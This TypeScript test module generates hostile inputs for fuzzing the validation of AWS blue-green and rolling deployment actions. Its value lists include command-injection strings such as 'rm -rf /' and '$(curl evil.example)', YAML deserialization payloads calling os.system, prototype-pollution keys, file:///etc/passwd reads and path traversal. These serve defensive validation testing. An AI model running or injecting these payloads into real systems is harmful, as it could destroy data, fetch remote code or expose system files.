/**
 * Hostile input sets for every action: a valid-looking baseline with one or two inputs replaced by a
 * value the action must refuse (ARNs of another service, weights like 1e3 or NaN, durations in words,
 * control characters, 10 KB strings, YAML that tries tags, anchors or prototype keys...). Shared by
 * the CI property tests (test/safety) and the long fuzz run (bench/safety.ts).
 */
import fc from "fast-check";

export const ACTIONS = ["deploy-green", "health-gate", "shift-traffic", "canary-analyze", "rollback"] as const;
/** Fuzzed with the others by test/safety/input-fuzz.test.ts, not yet by bench/safety.ts (its committed results cover ACTIONS). */
export const ROLLING_ACTIONS = ["rolling-update"] as const;
export type FuzzAction = (typeof ACTIONS)[number] | (typeof ROLLING_ACTIONS)[number];

const ACCOUNT = "123456789012";
export const VALID = {
  listener: `arn:aws:elasticloadbalancing:us-east-1:${ACCOUNT}:listener/app/web/50dc6c495c0c9188/f2f7dc8efc522ab2`,
  rule: `arn:aws:elasticloadbalancing:us-east-1:${ACCOUNT}:listener-rule/app/web/50dc6c495c0c9188/f2f7dc8efc522ab2/9683b2d02a6cabee`,
  targetGroup: `arn:aws:elasticloadbalancing:us-east-1:${ACCOUNT}:targetgroup/web-blue/73e2d6bc24d8a067`,
};

/** What must be refused, per kind of input. Every value here is invalid for every input of its kind. */
const big = (n: number, c = "a") => c.repeat(n);
const control = fc.constantFrom("\u0000", "\u0007", "\u001b[31m", "\u007f", "\u000b", "\u0008");
const withControl = (base: string) => control.map((c) => `${base.slice(0, 4)}${c}${base.slice(4)}`);
const unicodeJunk = fc.constantFrom("ｖ１", "\u202etxt.exe", "🚀", "Ω≈ç√", "a\uFEFFb", "é\u0301");

const hostileArn = (kind: "listener" | "rule" | "targetGroup") => {
  const others = {
    listener: [VALID.rule, VALID.targetGroup],
    rule: [VALID.listener, VALID.targetGroup],
    targetGroup: [VALID.listener, VALID.rule],
  }[kind];
  const valid = VALID[kind];
  return fc.oneof(
    fc.constantFrom(
      ...others,
      `arn:aws:ec2:us-east-1:${ACCOUNT}:instance/i-0123456789abcdef0`,
      `arn:aws:autoscaling:us-east-1:${ACCOUNT}:autoScalingGroup:1a2b:autoScalingGroupName/web-blue`,
      `arn:aws:iam::${ACCOUNT}:role/deploy`,
      valid.replace(ACCOUNT, "12345"),
      valid.replace("elasticloadbalancing", "elasticloadbalancingv2"),
      valid.replace("us-east-1", "US-EAST-1"),
      valid.replace("arn:aws:", "arn:gcp:"),
      `${valid}/extra`,
      `${valid} ; rm -rf /`,
      `${valid}\n${valid}`,
      `$(curl evil.example)${valid}`,
      valid.toUpperCase(),
      "*",
      "null",
      "undefined",
    ),
    withControl(valid),
    unicodeJunk.map((u) => valid.replace("web", u)),
    fc.integer({ min: 10_000, max: 10_240 }).map((n) => `${valid}${big(n - valid.length, "f")}`),
  );
};

const hostileNumberWords = fc.constantFrom("NaN", "Infinity", "-Infinity", "1e3", "0x10", "1_000", "1,000", "--1", "+5", "５", "½", "true", "null", "[]", "{}");

const hostile: Record<string, fc.Arbitrary<string>> = {
  listener: hostileArn("listener"),
  rule: hostileArn("rule"),
  targetGroup: hostileArn("targetGroup"),
  targetGroupList: hostileArn("targetGroup").map((v) => `${VALID.targetGroup}\n${v.replace(/\n/g, " ")}`),
  percent: fc.oneof(hostileNumberWords, fc.constantFrom("-0", "-1", "100.01", "101", "1000", "0.55", "50%", "5 5", "10.", ".5", "1e2", "1e-1", "100.00"), fc.integer({ min: 101, max: 1e9 }).map(String), fc.constant(big(10_240, "9"))),
  steps: fc.oneof(hostileNumberWords, fc.constantFrom("10,5", "0,50", "10,,50", "-0,10", "50%,100", "10;50", "10 50", "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21", "10,10", "101", "1e3,2e3")),
  duration: fc.oneof(hostileNumberWords, fc.constantFrom("5 minutes", "-1s", "1e3s", "1.5m", "PT5M", "99999h", "5ms", "５m", "1d", "m", "h1", "10sec"), fc.constant(big(10_240, "9") + "s")),
  minHealthy: fc.oneof(hostileNumberWords, fc.constantFrom("-1", "0%", "101%", "1.5", "50 %", "999999", "%", "50%%", "1e2%")),
  boolean: fc.constantFrom("yes", "no", "1", "0", "on", "off", "tru e", "TRUE!", "y", "t", "fals", "nul\u0000l"),
  positiveInteger: fc.oneof(hostileNumberWords, fc.constantFrom("0", "-1", "1.5", "99999999999", "1 0")),
  region: fc.oneof(fc.constantFrom("us-east-1; rm -rf /", "US-EAST-1", "moon", "us-east-", "us east 1", "us-east-1\nus-west-2", "../us-east-1"), fc.constant(big(10_240))),
  enum: fc.constantFrom("FAIL", "fail\u0000", "always", "pass", "continue!", " fail ,never"),
  imageId: fc.oneof(fc.constantFrom("ami-XYZ", "ami-123", "snap-0123456789abcdef0", "ami-0123456789ABCDEF0", "ami-0123456789abcdef", "ami-0123456789abcdef01"), fc.constant(`ami-${big(10_240, "0")}`)),
  launchTemplateVersion: fc.constantFrom("0", "$latest", "-1", "1.0", "$Latest;", "1e3", "12345678901"),
  version: fc.oneof(fc.constantFrom("-v1", "v 1", "v1\nv2", "${{ secrets.TOKEN }}", "v1;rm", "v1\u0000"), unicodeJunk, fc.constant(`v${big(10_240)}`)),
  deploymentId: fc.oneof(fc.constantFrom("-d1", "d 1", "d1\u0007", "d1;rm", "../../x"), unicodeJunk, fc.constant(`d${big(10_240)}`)),
  // Free text: only control characters and lengths beyond the limit are refused.
  text: fc.oneof(withControl("some text"), fc.constant(big(10_240))),
  yaml: fc.oneof(
    fc.constantFrom(
      "!!js/function 'function(){ return process.exit(0) }'",
      "metrics:\n  - name: a\n    query: !!python/object/apply:os.system ['id']",
      "a: &a [1,2]\nb: [*a,*a,*a]",
      "__proto__:\n  polluted: 1",
      "constructor:\n  prototype:\n    polluted: 1",
      "minRequests: 40\nminRequests: 41",
      "minRequests: 40\n---\nother: 1",
      'metrics: """',
      "${{ github.token }}: 1",
      "minRequests: -5",
      "minRequests: 1e400",
      "minRequests: .nan",
      "providers:\n  prometheus:\n    url: file:///etc/passwd",
    ),
    withControl("minRequests: 40"),
    fc.constant(`x: "${big(70_000)}"`),
  ),
  path: fc.oneof(withControl("config/canary.yml"), fc.constant(big(10_240))),
  alarmNames: fc.oneof(withControl("web-5xx"), fc.constant(big(300)), fc.constant(" leading,\n,trailing ok\n" + big(256))),
  tags: fc.constantFrom("novalue", "=x", `${big(200)}=x`, "a=b\u0007", `k=${big(300)}`, "a=b\nplain"),
  urls: fc.oneof(
    fc.constantFrom("ftp://example.com/", "javascript:alert(1)", "http://user:pass@example.com/", "not a url", "file:///etc/passwd", "//example.com", "http://"),
    fc.constant(Array.from({ length: 21 }, (_, i) => `http://127.0.0.1/${i}`).join("\n")),
  ),
  headers: fc.constantFrom("no colon here", ": empty-name", "Bad Name: x", "X-Key: a\u0000b", "Host"),
  status: fc.constantFrom("abc", "99", "600", "200-100", "2xx", "200,,", "-200", "1e2"),
  expectJson: fc.constantFrom("status ===", "garbage", "== 1", "a.b ~= 1", "status == \"unterminated"),
  environmentConflict: fc.constant(""),
};

type Kind = keyof typeof hostile;

const ENV_KINDS: Record<string, Kind> = { "listener-arn": "listener", "rule-arn": "rule", "environment-tags": "tags", "aws-region": "region" };

/** Per action: a valid baseline and the kind of each input (inputs without a refusable value are left out). */
export const PLANS: Record<FuzzAction, { baseline: Record<string, string>; kinds: Record<string, Kind> }> = {
  "deploy-green": {
    baseline: { "listener-arn": VALID.listener, version: "v2", "image-id": "ami-0123456789abcdef0" },
    kinds: {
      ...ENV_KINDS,
      version: "version",
      "launch-template-version": "launchTemplateVersion",
      "image-id": "imageId",
      "desired-capacity": "positiveInteger",
      "min-healthy": "minHealthy",
      timeout: "duration",
      "deployment-id": "deploymentId",
      "dry-run": "boolean",
      "lock-ttl": "duration",
    },
  },
  "health-gate": {
    baseline: { "listener-arn": VALID.listener, slot: "candidate" },
    kinds: {
      ...ENV_KINDS,
      "target-group-arns": "targetGroupList",
      slot: "text",
      "min-healthy": "minHealthy",
      urls: "urls",
      "expected-status": "status",
      "expect-json": "expectJson",
      "max-latency": "positiveInteger",
      "consecutive-successes": "positiveInteger",
      "request-timeout": "duration",
      headers: "headers",
      timeout: "duration",
    },
  },
  "shift-traffic": {
    baseline: { "listener-arn": VALID.listener, weight: "10" },
    kinds: {
      ...ENV_KINDS,
      to: "text",
      weight: "percent",
      steps: "steps",
      interval: "duration",
      "min-healthy": "minHealthy",
      "alarm-names": "alarmNames",
      analysis: "boolean",
      "analysis-config": "yaml",
      "analysis-config-file": "path",
      "analysis-inconclusive": "enum",
      "stickiness-duration": "duration",
      "scale-in-previous": "boolean",
      "scale-in-delay": "duration",
      timeout: "duration",
      "dry-run": "boolean",
      "lock-ttl": "duration",
    },
  },
  "canary-analyze": {
    baseline: { "listener-arn": VALID.listener },
    kinds: {
      ...ENV_KINDS,
      "canary-target-group-arn": "targetGroup",
      "baseline-target-group-arn": "targetGroup",
      window: "duration",
      config: "yaml",
      "config-file": "path",
      "fail-on": "enum",
      "report-path": "path",
    },
  },
  "rolling-update": {
    baseline: { "auto-scaling-group-name": "web", version: "v2", "image-id": "ami-0123456789abcdef0" },
    kinds: {
      "auto-scaling-group-name": "text",
      "environment-tags": "tags",
      "aws-region": "region",
      version: "version",
      "launch-template-version": "launchTemplateVersion",
      "image-id": "imageId",
      checkpoints: "steps",
      "min-healthy-percentage": "percent",
      "max-healthy-percentage": "positiveInteger",
      "instance-warmup": "duration",
      "stable-for": "duration",
      bake: "duration",
      "checkpoint-timeout": "duration",
      "checkpoint-delay": "duration",
      "alarm-names": "alarmNames",
      analysis: "boolean",
      timeout: "duration",
      "deployment-id": "deploymentId",
      "dry-run": "boolean",
      "lock-ttl": "duration",
    },
  },
  rollback: {
    baseline: { "listener-arn": VALID.listener },
    kinds: {
      ...ENV_KINDS,
      reason: "text",
      "to-version": "text",
      "to-slot": "text",
      "min-healthy": "minHealthy",
      "desired-capacity": "positiveInteger",
      "scale-in-bad": "boolean",
      timeout: "duration",
      "dry-run": "boolean",
      "lock-ttl": "duration",
    },
  },
};

export interface HostileCase {
  inputs: Record<string, string>;
  /** The inputs that were made hostile; the error must name one of them. */
  hostile: string[];
}

/** Inputs a hostile value in one of them also needs the others to be read (YAML only with analysis on). */
function companions(action: FuzzAction, name: string, inputs: Record<string, string>): void {
  if (action === "shift-traffic" && name === "analysis-config") inputs.analysis = "true";
  // Another way of naming the environment: the baseline's listener-arn would make it a conflict.
  if (["rule-arn", "environment-tags"].includes(name)) delete inputs["listener-arn"];
  if (action === "health-gate" && name === "target-group-arns") {
    delete inputs["listener-arn"];
    delete inputs.slot;
  }
  if ((action === "deploy-green" || action === "rolling-update") && name === "launch-template-version") delete inputs["image-id"];
  if (action === "rolling-update" && name === "environment-tags") delete inputs["auto-scaling-group-name"];
  if (action === "shift-traffic" && name === "steps") delete inputs.weight;
}

/** Cross-input conflicts that must be refused before any AWS call. */
function conflicts(action: FuzzAction): fc.Arbitrary<HostileCase>[] {
  if (action === "rolling-update") return rollingConflicts(PLANS[action].baseline);
  const out: fc.Arbitrary<HostileCase>[] = [
    fc.constant({ inputs: { ...PLANS[action].baseline, "rule-arn": VALID.rule }, hostile: ["listener-arn", "rule-arn"] }),
    fc.constant({ inputs: { ...PLANS[action].baseline, "environment-tags": "service=web" }, hostile: ["listener-arn", "environment-tags"] }),
  ];
  if (action !== "health-gate") {
    const none = { ...PLANS[action].baseline };
    delete none["listener-arn"];
    out.push(fc.constant({ inputs: none, hostile: ["listener-arn", "rule-arn", "environment-tags"] }));
  }
  if (action === "shift-traffic") out.push(fc.constant({ inputs: { ...PLANS[action].baseline, steps: "10,50,100" }, hostile: ["weight", "steps"] }));
  if (action === "deploy-green") out.push(fc.constant({ inputs: { ...PLANS[action].baseline, "launch-template-version": "3" }, hostile: ["launch-template-version", "image-id"] }));
  return out;
}

/** rolling-update names its group one way, says what to roll out one way, and keeps max within 100 of min. */
function rollingConflicts(baseline: Record<string, string>): fc.Arbitrary<HostileCase>[] {
  const without = (name: string) => Object.fromEntries(Object.entries(baseline).filter(([k]) => k !== name));
  return [
    fc.constant({ inputs: { ...baseline, "environment-tags": "service=web" }, hostile: ["auto-scaling-group-name", "environment-tags"] }),
    fc.constant({ inputs: without("auto-scaling-group-name"), hostile: ["auto-scaling-group-name", "environment-tags"] }),
    fc.constant({ inputs: { ...baseline, "launch-template-version": "3" }, hostile: ["launch-template-version", "image-id"] }),
    fc.constant({ inputs: { ...baseline, "min-healthy-percentage": "0", "max-healthy-percentage": "150" }, hostile: ["min-healthy-percentage", "max-healthy-percentage"] }),
    fc.constant({ inputs: { ...baseline, analysis: "true" }, hostile: ["analysis", "analysis-config", "analysis-config-file"] }),
  ];
}

/** One or two inputs of the action replaced by refusable values, or a cross-input conflict. */
export function hostileCase(action: FuzzAction): fc.Arbitrary<HostileCase> {
  const plan = PLANS[action];
  const names = Object.keys(plan.kinds);
  const single = fc.constantFrom(...names).chain((name) =>
    hostile[plan.kinds[name]!]!.map((value): HostileCase => {
      const inputs = { ...plan.baseline };
      companions(action, name, inputs);
      inputs[name] = value;
      return { inputs, hostile: [name] };
    }),
  );
  const double = fc.uniqueArray(fc.constantFrom(...names), { minLength: 2, maxLength: 2 }).chain(([a, b]) =>
    fc.tuple(hostile[plan.kinds[a!]!]!, hostile[plan.kinds[b!]!]!).map(([va, vb]): HostileCase => {
      const inputs = { ...plan.baseline };
      companions(action, a!, inputs);
      companions(action, b!, inputs);
      inputs[a!] = va;
      inputs[b!] = vb;
      // An environment input that is hostile alongside another still conflicts: any of the named inputs may be blamed.
      return { inputs, hostile: [a!, b!, ...(["listener-arn", "rule-arn", "environment-tags"].some((n) => n === a || n === b) ? ["listener-arn", "rule-arn", "environment-tags"] : [])] };
    }),
  );
  return fc.oneof({ weight: 6, arbitrary: single }, { weight: 2, arbitrary: double }, { weight: 1, arbitrary: fc.oneof(...conflicts(action)) });
}
